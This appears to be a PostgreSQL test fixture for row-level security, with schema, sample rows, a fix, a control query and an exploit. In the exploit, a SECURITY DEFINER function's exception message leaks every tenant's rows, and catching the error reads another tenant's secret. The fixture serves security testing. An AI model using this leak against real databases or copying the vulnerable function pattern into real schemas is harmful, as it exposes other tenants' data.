-- What: What an exception says is read from all rows.
-- Class: function_definer
-- Object: public.refused
-- Exploit: Call it, and read the message.
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
-- @superuser
create function refused() returns void language plpgsql security definer set search_path = public, pg_temp as $$
begin
  raise exception using message = (select string_agg(body, ',') from items);
end $$;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke execute on function refused() from public;
-- @control
select from items where tenant_id = :'A';
-- @exploit
create function pg_temp.message() returns text language plpgsql as $$
begin
  perform refused();
  return null;
exception when others then
  return sqlerrm;
end $$;
select m from pg_temp.message() m where m like '%B-secret%';
